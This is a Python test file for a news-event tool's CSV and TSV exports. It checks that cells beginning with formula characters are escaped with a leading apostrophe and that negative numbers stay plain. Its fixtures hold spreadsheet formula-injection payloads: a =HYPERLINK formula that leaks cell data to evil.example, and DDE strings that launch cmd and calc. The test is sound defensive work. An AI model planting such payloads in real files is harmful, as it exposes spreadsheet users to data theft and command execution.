"""Issue #13 item 6: no CSV or TSV the tool writes carries a cell a spreadsheet runs as a formula.

A stored story whose evidence, actor words, place and URL start with ``=``, ``+``, ``-`` or
``@`` is exported through every CSV path (``events --format csv``, ``export --to gdelt``,
``export --to polecat``) and read back with the csv module: those cells start with ``'``,
while negative numbers (Goldstein -4.0, coordinates) are written as plain numbers.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "api"))
from explorer_corpus import story  # noqa: E402

from communique.model import Location  # noqa: E402
from communique.safecsv import safe_cell  # noqa: E402
from communique.store import Store  # noqa: E402
from support import run_cli  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ACTOR_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLACE = "-2+3+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    art = story(
        "evil",
        "2024-02-21",
        [(EVIL + " The United States imposed sanctions on Cuba.", "imposed", "SANCTION",
          "USA", "CUB", "asserted", "2024-02-21")],
        title="+Sanctions",
        url="https://example.org/evil",
    )  # fmt: skip
    m = art.mentions[0]
    m.actor[0].text = ACTOR_TEXT
    m.actor[0].name = ACTOR_TEXT
    m.recipient[0].text = EVIL
    m.location = Location(PLACE, "CUB", -23.13, -82.38)
    path = tmp_path_factory.mktemp("csvf") / "f.duckdb"
    with Store(path) as s:
        s.write_batch([art], link=False)
    return path


def _rows(text: str, delimiter: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
    assert rows, text
    return rows


def _check(rows: list[dict[str, str]], goldstein: str, lon: str) -> None:
    cells = [v for r in rows for v in r.values() if v]
    for v in cells:
        if v.startswith(FORMULA_START):
            float(v)  # only a plain number may start with - or +
    joined = "\n".join(cells)
    assert "'=HYPERLINK(" in joined
    assert "=HYPERLINK(" not in joined.replace("'=HYPERLINK(", "")
    assert rows[0][goldstein] == "-4.0"
    assert float(rows[0][lon]) == -82.38


def test_events_csv(db):
    done = run_cli("events", "--db", str(db), "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = _rows(done.stdout, ",")
    _check(rows, "goldstein", "location_lon")
    assert rows[0]["actor_text"] == "'" + ACTOR_TEXT
    assert rows[0]["location_name"] == "'" + PLACE
    assert rows[0]["evidence_sentence"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize(
    ("to", "delimiter", "goldstein", "lon", "name"),
    [
        ("gdelt", ",", "GoldsteinScale", "ActionGeo_Long", "ActionGeo_FullName"),
        ("polecat", "\t", "Goldstein", "Longitude", "Placename"),
    ],
)
def test_exports(db, tmp_path, to, delimiter, goldstein, lon, name):
    out = tmp_path / f"out.{to}"
    done = run_cli("export", "--db", str(db), "--to", to, "-o", str(out))
    assert done.returncode == 0, done.stderr
    rows = _rows(out.read_text(encoding="utf-8"), delimiter)
    _check(rows, goldstein, lon)
    assert rows[0][name] == "'" + PLACE


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100 call", "'+1 555 0100 call"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        (-3.5, -3.5),
        ("plain = text", "plain = text"),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
